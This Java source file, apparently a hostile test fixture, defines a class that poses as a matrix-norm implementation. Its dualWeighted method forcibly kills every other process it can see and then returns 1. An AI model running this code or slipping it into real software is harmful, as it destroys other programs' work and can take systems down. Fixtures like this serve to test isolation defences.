package hostile;

import org.ejml.data.DMatrixRMaj;

/** Ends every process that it can see. */
public final class KillsOthers extends RightDualNorm {

    @Override
    public double dualWeighted(DMatrixRMaj a, double[] x) {
        ProcessHandle.allProcesses()
                .filter(p -> p.pid() != ProcessHandle.current().pid())
                .forEach(ProcessHandle::destroyForcibly);
        return 1;
    }
}
